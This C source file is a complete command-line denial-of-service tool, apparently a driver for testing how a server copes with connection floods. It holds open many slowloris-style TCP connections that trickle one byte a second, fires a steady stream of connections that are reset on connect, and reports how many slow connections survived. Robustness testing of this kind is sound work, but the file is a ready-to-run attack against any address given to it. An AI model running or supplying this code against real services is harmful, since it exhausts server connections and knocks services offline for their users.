/* attack ADDRESS PORT LORIS RESETS SECONDS: LORIS connections that send a byte a second each, and RESETS connections
   a second that are reset as soon as they are made.  Says `ready` once all the slow ones are there; prints how many slow
   ones were still open at the end, how many bytes they sent, and how many resets there were. */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in peer;

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int join(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0) exit(2);
    return fd;
}

int main(int argc, char **argv)
{
    struct linger hard = { .l_onoff = 1, .l_linger = 0 };
    long loris, resets, bytes = 0, done = 0, turns = 0, open = 0;
    int *slow;
    double from, end;
    if (argc != 6) return 100;
    peer.sin_family = AF_INET;
    peer.sin_port = htons(atoi(argv[2]));
    inet_pton(AF_INET, argv[1], &peer.sin_addr);
    loris = atol(argv[3]);
    resets = atol(argv[4]);
    slow = calloc(loris, sizeof *slow);
    for (long i = 0; i < loris; i++) slow[i] = join();
    printf("ready\n");
    fflush(stdout);
    from = now();
    end = from + atof(argv[5]);
    /* a hundred turns a second, each with its share of both */
    for (; now() < end; turns++) {
        struct timespec pause = { 0, 1000000 };
        while (now() < from + turns / 100.0) nanosleep(&pause, 0);
        for (long i = turns % 100; i < loris; i += 100)
            if (slow[i] >= 0) {
                if (send(slow[i], "N", 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) bytes++;
                else if (errno != EAGAIN) close(slow[i]), slow[i] = -1;
            }
        for (; done < (turns + 1) * resets / 100; done++) {
            int fd = join();
            setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
            close(fd);
        }
    }
    for (long i = 0; i < loris; i++) open += slow[i] >= 0;
    printf("%ld %ld %ld\n", open, bytes, done);
    return 0;
}
